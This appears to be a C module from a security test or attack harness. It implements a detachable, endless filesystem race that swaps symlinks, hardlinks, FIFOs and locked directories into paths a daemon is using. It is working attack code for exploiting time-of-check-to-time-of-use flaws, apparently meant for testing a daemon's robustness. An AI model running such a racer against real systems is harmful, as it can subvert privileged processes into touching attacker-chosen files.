/* A racer: changes what is at some names, for ever, while the daemon works there. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

enum { EXCHANGE = 2 /* RENAME_EXCHANGE, linux/fs.h */ };

static void clear(const char *path)
{
    char inside[4096];
    snprintf(inside, sizeof inside, "%s/inside", path);
    unlink(inside);
    if (unlink(path) != 0)
        rmdir(path);
}

static void make_one(const char *path, const char *target, unsigned round)
{
    char inside[4096];
    snprintf(inside, sizeof inside, "%s/inside", path);
    clear(path);
    switch (round % 6) {
    case 0:
        (void)!symlink(target, path);
        break;
    case 1:
        mkdir(path, 0700);
        (void)!symlink(target, inside);
        break;
    case 2:
        mkfifo(path, 0666);
        break;
    case 3:
        (void)!link(target, path);
        break;
    case 4:
        mkdir(path, 0000);
        break;
    default:
        close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0666));
    }
}

/* race TARGET NAME...: each name in turn, and with what stands beside it exchanged in one step. */
static _Noreturn void race(char **argv)
{
    const char *target = argument(argv, 1);
    char beside[4096];
    argument(argv, 2);
    tell("race", NULL, "begun");
    for (unsigned round = 0;; round++)
        for (char **name = argv + 2; *name != NULL; name++) {
            snprintf(beside, sizeof beside, "%s.beside", *name);
            make_one(beside, target, round);
            if (syscall(SYS_renameat2, AT_FDCWD, beside, AT_FDCWD, *name, EXCHANGE) != 0)
                rename(beside, *name);
            if (round % 7 == 0)
                make_one(*name, target, round / 7);
        }
}

/* `race` in a session of its own, without descriptors: it outlives the command that made it. */
static void leave_racer(char **argv)
{
    fflush(stdout);
    if (fork() != 0)
        return;
    setsid();
    for (int fd = 0; fd < 3; fd++) {
        close(fd);
        open("/dev/null", O_RDWR);
    }
    race(argv);
}

bool act_on_races(char **argv)
{
    if (strcmp(argv[0], "race") == 0)
        race(argv);
    else if (strcmp(argv[0], "leave-racer") == 0)
        leave_racer(argv);
    else
        return false;
    return true;
}
